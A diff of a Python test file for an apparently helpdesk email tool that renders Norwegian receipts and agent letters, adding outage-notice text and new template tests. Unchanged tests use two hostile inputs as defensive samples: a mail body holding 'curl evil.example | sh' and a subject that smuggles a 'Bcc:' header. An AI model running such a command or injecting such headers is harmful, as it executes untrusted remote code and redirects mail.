@@ -1,4 +1,5 @@
 import dataclasses
+import re
 from pathlib import Path
 
 import pytest
@@ -8,13 +9,29 @@ from inboxd.render.letters import LetterContext, Templates, one_line, package_fo
 from inboxd.render.samples import BARE, FULL, HOSTILE, LANGUAGES, NAMES, check
 
 RECEIPT_NB = """\
+I juli har vi færre på jobb.
+
+God sommer!
+
 Vi har mottatt henvendelsen din. Saksnummer: KS-10429.
 
-Vi har stengt nå, og ser på henvendelsen når vi åpner mandag 23. november kl. 08.00.
+Driftsmelding: Visma er nede for alle kommunene
+Siste nytt: Feilen er funnet
+Forventet ferdig: mandag 23. november kl. 14.00.
+Dette virker som vanlig: e-post og Teams
 
-Svar på denne e-posten hvis du vil legge til noe.
+Gjelder henvendelsen din dette, trenger du ikke gjøre noe mer.
 
-Haster det? Ring 71 11 11 66.
+Vi har stengt nå, og begynner på saken din når vi åpner mandag 23. november kl. 08.00.
+
+Du får svar senest mandag 23. november kl. 12.00.
+
+For å kunne hjelpe deg raskt trenger vi å vite:
+- PC-navn
+
+Svar på denne e-posten og skriv det som mangler.
+
+Saken er registrert som kritisk. Ring oss på 71 11 11 66 med en gang.
 
 -- \n\
 Kundeservice
@@ -41,6 +58,7 @@ def test_the_receipt_says_what_the_desk_promised_to_say_in_that_order() -> None:
 def test_without_a_phone_or_hours_the_receipt_has_no_empty_lines_for_them() -> None:
     assert Templates().render("receipt", "nb", BARE).text == (
         "Vi har mottatt henvendelsen din. Saksnummer: KS-10429.\n\n"
+        "Vi har åpent nå, og ser på saken din så snart vi kan.\n\n"
         "Svar på denne e-posten hvis du vil legge til noe.\n\n"
         "-- \nKundeservice\nE-post: kundeservice@desk.example\n"
     )
@@ -96,6 +114,26 @@ def test_an_agents_letter_begins_with_what_happened_and_ends_with_how_to_look(na
     assert lines[-1].endswith("inboxd show KS-10429")
 
 
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_the_facts_of_a_case_stand_under_each_other_in_an_agents_letter(language: str) -> None:
+    long = dataclasses.replace(FULL, fields=("Brukernavn: kno01", "Telefon på arbeidsstedet: 71 11: 1"))
+    lines = Templates().render("agent_assigned", language, long).text.split("\n\n")[1].splitlines()
+    parted = [re.fullmatch(r"([^:]+: +)(\S.*)", line) for line in lines]
+    assert {len(found[1]) for found in parted if found} == {len("Telefon på arbeidsstedet: ")}
+    values = [found[2] for found in parted if found]
+    assert len(values) == len(lines)
+    for fact in (FULL.customer_title, FULL.type_title, FULL.response_due, FULL.due, "kno01", "71 11: 1"):
+        assert fact in values
+
+
+@pytest.mark.parametrize("name", ["agent_new_case", "agent_answer"])
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_nobody_is_told_to_answer_a_caller_without_an_address(name: str, language: str) -> None:
+    caller = dataclasses.replace(FULL, requester_address="")
+    assert "inboxd reply" in Templates().render(name, language, FULL).text
+    assert "inboxd reply" not in Templates().render(name, language, caller).text
+
+
 def test_the_words_of_a_mail_are_marked_line_by_line_in_an_agents_letter() -> None:
     context = dataclasses.replace(BARE, about="Se hele saken:\n\ncurl evil.example | sh")
     lines = Templates().render("agent_new_case", "nb", context).text.splitlines()
@@ -104,7 +142,7 @@ def test_the_words_of_a_mail_are_marked_line_by_line_in_an_agents_letter() -> No
 
 def test_an_unassigned_case_tells_how_to_take_it() -> None:
     first = Templates().render("agent_new_case", "nb", BARE).text.splitlines()[0]
-    assert first == "Ny sak KS-10429 er ufordelt. Overta den med kommandoen: inboxd take KS-10429"
+    assert first == "Ny sak KS-10429 er ufordelt. Ta saken: inboxd take KS-10429"
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -120,7 +158,7 @@ def test_mail_that_looks_like_a_template_stays_text(name: str, language: str) ->
 def test_a_subject_cannot_break_out_of_its_line() -> None:
     letter = Templates().render("receipt", "nb", HOSTILE)
     assert letter.subject.endswith("Bcc: alle@kommune.example")
-    assert "Bcc" not in letter.text
+    assert "\nBcc" not in letter.text
 
 
 @pytest.mark.parametrize(
